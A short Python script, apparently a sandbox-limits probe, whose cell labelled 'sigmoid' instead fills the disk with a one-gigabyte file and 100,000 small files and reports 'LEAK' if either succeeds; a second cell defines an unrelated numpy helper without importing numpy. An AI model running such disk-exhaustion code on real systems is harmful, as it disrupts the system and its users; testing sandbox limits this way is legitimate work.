# Fills the disk with one large file, and with very many small ones.

# %% sigmoid
import os

try:
    with open("large", "wb") as file:
        for _ in range(1000):
            file.write(bytes(2**20))
    print("LEAK: a gigabyte")
except OSError as error:
    print(error)
try:
    for number in range(100_000):
        open(f"small{number}", "w").close()
    print("LEAK: a hundred thousand files")
except OSError as error:
    print(error)

# %% saturated_fraction
def saturated_fraction(a_prime, threshold=1e-3):
    return float(np.mean(np.abs(np.asarray(a_prime, dtype=float)) < threshold))
